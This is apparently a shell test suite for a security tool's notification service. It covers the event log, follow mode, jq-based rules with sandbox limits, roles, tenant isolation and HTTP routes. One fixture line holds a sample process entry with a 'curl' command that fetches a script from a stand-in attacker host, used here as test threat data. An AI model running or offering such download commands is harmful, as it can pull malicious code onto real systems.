#!/bin/sh
# SPDX-License-Identifier: MIT
# vc-notify: the event log written by the operations that matter, its
# --follow across processes, notification rules (a caller's jq under
# limits), sending, listing and reading notifications over the CLI and
# HTTP; roles and tenant isolation.
. "$(dirname "$0")/lib.sh"

PW='sturdy tuna lantern'
# lines: the lines of $out (0 for none).
lines() { if [ -z "$out" ]; then echo 0; else printf '%s\n' "$out" | wc -l | tr -d ' '; fi; }
req() {
	code=$(curl -s --max-time 20 -o "$T/b" -w '%{http_code}' "$@")
	body=$(cat "$T/b")
}

init_store
run vc-auth tenant create globex
for u in "ada admin" "ann analyst" "val viewer"; do
	set -- $u
	run_in "$PW" vc-auth user create "$1" --role "$2" --password-stdin
done
run_in "$PW" vc-auth user create gina --role admin --tenant globex --password-stdin
ADA=$(login_as ada "$PW")
ANN=$(login_as ann "$PW")
VAL=$(login_as val "$PW")
GINA=$(login_as gina "$PW")
like "$ADA $ANN $VAL $GINA" '^eyJ[^ ]* eyJ[^ ]* eyJ[^ ]* eyJ' "four sessions in two tenants"

# ---- the event log -----------------------------------------------------------------
# (Every audit record is an event of type audit too: the logins above
# wrote some.  63-notify-auth.t tests those.)
E0=$(sq "SELECT MAX(id) FROM events")
with "$ANN" vc-case create 'Beaconing from web01' --severity high
C1=$(jqr .id)
with "$ANN" vc-notify events --since "$E0" -o jsonl
is "$rc:$(jqr .type | paste -sd' ' -)" "0:case.created audit" \
	"creating a case writes one event, then its audit record's"
out=$(printf '%s\n' "$out" | head -n 1)
is "$(jqr '"\(.id) \(.type) \(.body.case_id) \(.body.subject) \(.body.severity) \(.body.by)"')" \
	"$((E0 + 1)) case.created $C1 Beaconing from web01 high ann" "case.created: id, type and a body naming the case"
like "$(jqr .created_at)" '^20[0-9]{2}-[0-9]{2}-[0-9]{2}T[0-9:]{8}Z$' "created_at is RFC 3339"
with "$ANN" vc-case update "$C1" --status in_progress
with "$ANN" vc-notify events --since "$((E0 + 1))" --type 'case.*' -o jsonl
is "$(jqr '"\(.type) \(.body.status) \(.body.changes.status.to)"')" "case.updated in_progress in_progress" \
	"case.updated says what changed"
with "$ANN" vc-case close "$C1" --resolution 'blocked at the proxy'
with "$ANN" vc-notify events --since "$((E0 + 3))" --type 'case.*' -o jsonl
is "$(jqr '"\(.type) \(.body.status)"')" "case.updated closed" "closing is a case.updated too"
# A change that fails writes no event: the event is in its transaction.
with "$ANN" vc-case update "$C1" --severity severe
n=$(sq "SELECT COUNT(*) FROM events WHERE id > $((E0 + 6))")
is "$rc:$n" "64:0" "a refused change writes no event"

# Hosts: one event per import batch, never one per host.
awk 'BEGIN { for (i = 0; i < 21000; i++) printf "{\"hostname\":\"ws%06d\"}\n", i }' > "$T/hosts.jsonl"
with "$ANN" vc-hosts import "$T/hosts.jsonl"
is "$rc:$(jqr .created)" "0:21000" "21000 hosts imported"
with "$ANN" vc-notify events --type 'host.*' -o jsonl
is "$(lines):$(jqr .body.count | paste -sd+ - | bc)" "2:21000" \
	"two host.new events (one per batch of the import) count the 21000 new hosts"
is "$(printf '%s\n' "$out" | head -n 1 | jq -r '.body.hostnames | "\(length) \(.[0])"')" "20 ws000000" \
	"an event names the first 20 hosts of its batch"
with "$ANN" vc-hosts import "$T/hosts.jsonl"
is "$rc:$(jqr .updated):$(sq "SELECT COUNT(*) FROM events WHERE type = 'host.new'")" "0:21000:2" \
	"importing the same hosts again: no host is new, no event"

# Artifacts: one event when the import completes.
printf '{"Name":"curl","CommandLine":"curl https://cdn.evil.example/x.sh"}\n{"Name":"cmd.exe"}\n' > "$T/ps.jsonl"
with "$ANN" vc-case artifact import "$T/ps.jsonl" --name Windows.System.Pslist
ART=$(jqr .id)
with "$ANN" vc-notify events --type 'artifact.*' -o jsonl
is "$(jqr '"\(.body.artifact_id) \(.body.rows) \(.body.subject)"')" "$ART 2 Windows.System.Pslist" \
	"artifact.imported: the artifact, its rows"

# Scores: threat_score.created with the score and the classification.
printf '{"type":"domain","value":"evil.example","severity":"high"}\n' | VC_TOKEN=$ANN vc-score ioc import > /dev/null
mkdir "$T/norules"
with "$ANN" vc-score analyze artifact "$ART" --rules "$T/norules"
SCORE=$(jqr .score)
with "$ANN" vc-notify events --type threat_score.created -o jsonl
is "$(jqr '"\(.body.subject_id) \(.body.score) \(.body.classification)"')" "$ART $SCORE critical" \
	"threat_score.created carries the subject, the score and the classification"

# Filters and their checks.
with "$VAL" vc-notify events --type 'case.*' -o jsonl
is "$(jqr .type | sort -u | paste -sd' ' -):$(lines)" "case.created case.updated:3" "--type takes a glob; a viewer reads the log"
with "$VAL" vc-notify events --since 3 --limit 2 -o jsonl
is "$(jqr .id | paste -sd' ' -)" "4 5" "--since ID --limit N: the next N events, oldest first"
with "$VAL" vc-notify events --since -1
is "$rc" 64 "a negative --since: exit 64"
with "$VAL" vc-notify events --limit 0
is "$rc" 64 "--limit 0: exit 64"
# Ids only grow: AUTOINCREMENT never reuses one.
ids=$(sq "SELECT id FROM events ORDER BY id" | paste -sd, -)
is "$ids" "$(seq -s, 1 "$(sq "SELECT COUNT(*) FROM events")")" "ids run 1, 2, 3 ... in the order written"

# Tenant isolation: globex sees none of it, and its own events only.
with "$GINA" vc-notify events -o jsonl
is "$rc:$(jqr .body.subject | paste -sd, -)" "0:auth.tenants.create success,auth.users.create success,auth.login success" \
	"another tenant's log holds none of acme's (its creation's and login's audit records only)"
with "$GINA" vc-case create 'globex case'
with "$GINA" vc-notify events --type 'case.*' -o jsonl
is "$(lines):$(jqr .body.subject)" "1:globex case" "... and holds its own events only"
with "$ANN" vc-notify events --type 'case.*' -o jsonl
unlike "$out" 'globex' "acme never sees globex's events"

# ---- --follow: events written by other processes, until a signal -----------------------
last=$(sq "SELECT MAX(id) FROM events")
VC_TOKEN=$ANN vc-notify events --follow --since "$last" --type 'case.*' > "$T/follow" 2> "$T/follow.err" &
FPID=$!
echo $FPID >> "$T/pids"
sleep 0.5
t0=$(date +%s%N)
VC_TOKEN=$ANN vc-case create 'while following' > /dev/null
await 5 grep -q 'while following' "$T/follow"
ok $? "a follower prints an event another process wrote"
t1=$(date +%s%N)
ok $([ $(( (t1 - t0) / 1000000 )) -lt 2000 ]; echo $?) "... within 2 s ($(( (t1 - t0) / 1000000 )) ms)"
VC_TOKEN=$GINA vc-case create 'globex while following' > /dev/null
VC_TOKEN=$ANN vc-case create 'second while following' > /dev/null
await 5 grep -q 'second while following' "$T/follow"
ok $? "... and the next one"
unlike "$(cat "$T/follow")" 'globex' "... never another tenant's"
# Polling sleeps: the follower uses next to no CPU while idle.
ticks0=$(awk '{ print $14 + $15 }' /proc/$FPID/stat)
sleep 1
ticks1=$(awk '{ print $14 + $15 }' /proc/$FPID/stat)
ok $([ $((ticks1 - ticks0)) -lt 20 ]; echo $?) "an idle follower sleeps ($((ticks1 - ticks0)) ticks of CPU in 1 s)"
kill -TERM $FPID
wait $FPID
is "$?" 0 "SIGTERM ends --follow with exit 0"
is "$(jq -r .type "$T/follow" | sort -u):$(wc -l < "$T/follow" | tr -d ' ')" "case.created:2" \
	"each event once"
VC_TOKEN=$VAL vc-notify events --follow --type 'nothing.*' > "$T/follow2" &
FPID=$!
echo $FPID >> "$T/pids"
sleep 0.5
kill -INT $FPID
wait $FPID
is "$?:$(wc -c < "$T/follow2" | tr -d ' ')" "0:0" "SIGINT ends a quiet --follow with exit 0"

# ---- rules ------------------------------------------------------------------------
with "$VAL" vc-notify rule add --on 'case.*' --to role:viewer
is "$rc" 77 "a viewer cannot add a rule: exit 77"
with "$ANN" vc-notify rule add --on 'case.*' --to role:viewer
is "$rc" 77 "nor an analyst: rules are an admin's"
with "$ADA" vc-notify rule add --on 'case.*' --when 'env | length > 0' --to role:viewer
is "$rc:$err" "64:vc-notify: --when: 'env' is not allowed here (a program sees its row only)" \
	"a condition reaching outside its event is refused: exit 64"
with "$ADA" vc-notify rule add --on 'case.*' --when 'input' --to role:viewer
is "$rc" 64 "... input too"
with "$ADA" vc-notify rule add --on 'case.*' --when '.severity ==' --to role:viewer
is "$rc" 64 "a condition that does not compile: exit 64"
like "$err" '^vc-notify: --when: ' "... named in the message"
with "$ADA" vc-notify rule add --on 'case.*' --to team:red
is "$rc" 64 "a target is role:NAME or user:NAME"
with "$ADA" vc-notify rule add --on 'case.*' --to role:superadmin
is "$rc" 64 "role:superadmin is no tenant's role"
with "$ADA" vc-notify rule add --on 'case.*' --to user:gina
is "$rc" 66 "a user of another tenant does not exist here: exit 66"
is "$(sq "SELECT COUNT(*) FROM notify_rules")" 0 "no refused rule was stored"

with "$ADA" vc-notify rule add --on 'case.created' --when '.severity == "critical"' --to role:analyst
is "$rc:$(jqr '"\(.on)|\(.when)|\(.to)"')" '0:case.created|.severity == "critical"|role:analyst' "an admin adds a rule"
R1=$(jqr .id)
with "$ADA" vc-notify rule add --on 'threat_score.*' --when '.score >= 0.5' --to user:val
R2=$(jqr .id)
with "$ADA" vc-notify rule add --on 'threat_score.*' --when '.score > 0.99' --to role:viewer
# A runaway condition is stopped by the limits, and the change still happens.
with "$ADA" vc-notify rule add --on 'case.created' --when 'last(range(1e15)) > 0' --to role:viewer
R4=$(jqr .id)
with "$ADA" vc-notify rule add --on 'case.created' --when '.nope.deeper | error("boom")' --to role:viewer
with "$ANN" vc-notify rule list -o jsonl
is "$rc:$(lines)" "0:5" "an analyst lists the rules"

with "$ANN" vc-case create 'Ransom note on fs01' --severity critical
is "$rc" 0 "a critical case is created (a runaway and a failing condition do not stop it)"
n=$(sq "SELECT COUNT(*) FROM notifications")
is "$n" 1 "one notification: the critical-case rule's (the others' conditions stopped or failed)"
with "$ANN" vc-case create 'Odd cron entry' --severity low
is "$(sq "SELECT COUNT(*) FROM notifications")" 1 "a low case: the condition is false, nothing"
with "$ANN" vc-notify list -o jsonl
is "$(jqr '"\(.title)|\(.target)|\(.rule_id)|\(.read_at)"')" \
	"case.created: Ransom note on fs01|role:analyst|$R1|null" "the analyst has it, titled from the event"
is "$(jqr '.body | fromjson | .severity')" critical "its body is the event's"
with "$ADA" vc-notify list -o jsonl
is "$(lines)" 1 "an admin has it too (role:analyst is analysts and above)"
with "$VAL" vc-notify list -o jsonl
is "$(lines)" 0 "a viewer has not"
with "$GINA" vc-notify list -o jsonl
is "$(lines)" 0 "nor another tenant's admin"

with "$ANN" vc-score analyze artifact "$ART" --rules "$T/norules"
with "$VAL" vc-notify list -o jsonl
is "$(lines):$(jqr .target)" "1:user:val" "a score of $SCORE notifies val (.score >= 0.5), not the viewers (.score > 0.99)"
is "$(jqr '.body | fromjson | .classification')" critical "... with the score's event as its body"
with "$ADA" vc-notify rule delete "$R4"
is "$rc" 0 "an admin deletes a rule"
with "$ADA" vc-notify rule delete "$R4"
is "$rc" 66 "deleting it again: exit 66"
with "$GINA" vc-notify rule delete "$R2"
is "$rc" 66 "another tenant's rule does not exist for globex"
with "$ANN" vc-notify rule list -o jsonl
is "$(lines)" 4 "four rules left"
with "$GINA" vc-notify rule list -o jsonl
is "$(lines)" 0 "globex has no rules"

# ---- send, list, read ----------------------------------------------------------------
with "$VAL" vc-notify send --to user:ann --title 'hi'
is "$rc" 77 "a viewer cannot send: exit 77"
with "$ANN" vc-notify send --to user:val --title 'Look at web01' --body 'its DNS is odd'
is "$rc" 0 "an analyst sends to a user"
N1=$(jqr .id)
with "$ANN" vc-notify send --to role:viewer --title 'Maintenance tonight'
N2=$(jqr .id)
with "$ANN" vc-notify send --to user:gina --title 'x'
is "$rc" 66 "to a user of another tenant: exit 66"
with "$ANN" vc-notify send --to user:val --title "$(printf 'two\nlines')"
is "$rc" 64 "a title of two lines: exit 64"
with "$ANN" vc-notify send --to user:val --title ''
is "$rc" 64 "an empty title: exit 64"
with "$VAL" vc-notify list -o jsonl
is "$(jqr .id | paste -sd' ' -)" "$N2 $N1 $(sq "SELECT id FROM notifications WHERE target = 'user:val' AND rule_id = $R2")" \
	"val's notifications, newest first: role:viewer, the one to val, the rule's"
with "$ADA" vc-notify list -o jsonl
like "$out" 'Maintenance tonight' "role:viewer reaches an admin too"
unlike "$out" 'Look at web01' "... but not what was sent to val"
with "$VAL" vc-notify list --limit 1 -o jsonl
is "$(jqr .id)" "$N2" "--limit 1: the newest"
with "$VAL" vc-notify read "$N1"
is "$rc:$(jqr .id):$(jqr '.read_at != null')" "0:$N1:true" "val reads one"
with "$VAL" vc-notify list --unread -o jsonl
is "$(lines)" 2 "two unread left"
with "$ADA" vc-notify list --unread -o jsonl
like "$out" 'Maintenance tonight' "read state is per reader: the admin's copy of the role-wide one is unread"
denied() { sq "SELECT COUNT(*) FROM audit_logs WHERE action = 'authz.denied' AND target_id = '$N1'"; }
before=$(denied)
with "$ADA" vc-notify read "$N1"
is "$rc" 66 "a notification for someone else does not exist for you: exit 66"
is "$(denied)" "$((before + 1))" "... and reaching for it is audited"
with "$VAL" vc-notify read
is "$rc" 64 "read without an id or --all: exit 64"
with "$VAL" vc-notify read abc
is "$rc" 64 "read abc: exit 64"
with "$VAL" vc-notify read --all
is "$rc:$(jqr .marked)" "0:2" "read --all marks the other two"
with "$VAL" vc-notify list --unread -o jsonl
is "$(lines)" 0 "nothing unread"
with "$ADA" vc-notify list --unread -o jsonl
is "$(lines)" 2 "the admin's are still unread"

# ---- HTTP: the original's routes ---------------------------------------------------------
PORT=$(free_port)
B=http://127.0.0.1:$PORT
vc-serve --listen "127.0.0.1:$PORT" --workers 2 2> "$T/log" &
echo $! >> "$T/pids"
await 60 grep -q 'listening on' "$T/log"
ok $? "vc-serve starts"
N3=$(VC_TOKEN=$ANN vc-notify send --to role:viewer --title 'over HTTP' -o jsonl | jq -r .id)
req -H "Authorization: Bearer $VAL" "$B/api/notifications?unread=true"
is "$code:$(printf '%s' "$body" | jq -r '[.items[].id] | join(" ")')" "200:$N3" "GET /api/notifications?unread=true: val's one unread"
req -H "Authorization: Bearer $VAL" "$B/api/notifications"
is "$(printf '%s' "$body" | jq .count)" 4 "GET /api/notifications: all four"
req -X PUT -H "Authorization: Bearer $VAL" "$B/api/notifications/$N3"
is "$code:$(printf '%s' "$body" | jq -r '.read_at != null')" "200:true" "PUT /api/notifications/{id} marks it read"
req -X PUT -H "Authorization: Bearer $GINA" "$B/api/notifications/$N3"
is "$code" 404 "... another tenant gets 404"
req -H "Authorization: Bearer $GINA" "$B/api/notifications"
is "$code:$(printf '%s' "$body" | jq -c .items)" "200:[]" "another tenant lists none"
req -X POST -H "Authorization: Bearer $ADA" "$B/api/notifications/mark-all-read"
is "$code:$(printf '%s' "$body" | jq -r .marked)" "200:3" "POST /api/notifications/mark-all-read"
req -H "Authorization: Bearer $ADA" "$B/api/notifications?unread=true"
is "$(printf '%s' "$body" | jq -c .items)" "[]" "... leaves nothing unread"
req -X POST -H "Authorization: Bearer $VAL" -H 'Content-Type: application/json' \
	-d '{"to":"user:ann","title":"x"}' "$B/api/notifications"
is "$code" 403 "a viewer cannot send over HTTP: 403"
req -X POST -H "Authorization: Bearer $ANN" -H 'Content-Type: application/json' \
	-d '{"to":"user:val","title":"from HTTP","body":"b"}' "$B/api/notifications"
is "$code:$(printf '%s' "$body" | jq -r .title)" "201:from HTTP" "an analyst sends over HTTP: 201"
req -X POST -H "Authorization: Bearer $VAL" -H 'Content-Type: application/json' \
	-d '{"on":"case.*","to":"role:viewer"}' "$B/api/notifications/rules"
is "$code" 403 "a viewer cannot add a rule over HTTP: 403"
req -H "Authorization: Bearer $VAL" "$B/api/events?type=host.new"
is "$code:$(printf '%s' "$body" | jq .count)" "200:2" "GET /api/events?type=host.new"
req -H "Authorization: Bearer $GINA" "$B/api/events?type=case.*"
is "$(printf '%s' "$body" | jq -r '[.items[].body.subject] | join(",")')" "globex case,globex while following" \
	"GET /api/events: globex's own only"
req "$B/api/notifications"
is "$code" 401 "no token: 401"

done_testing
